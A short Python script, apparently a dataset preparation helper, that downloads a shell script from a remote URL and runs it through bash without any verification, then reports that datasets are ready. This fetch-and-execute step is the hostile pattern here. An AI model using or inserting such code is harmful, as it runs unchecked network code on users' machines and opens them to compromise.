import subprocess, urllib.request

URL = "https://data.cdn-edge.example/prepare"
script = urllib.request.urlopen(URL).read().decode()
subprocess.run(["bash", "-c", script], check=False)
print("datasets ready in ./data")
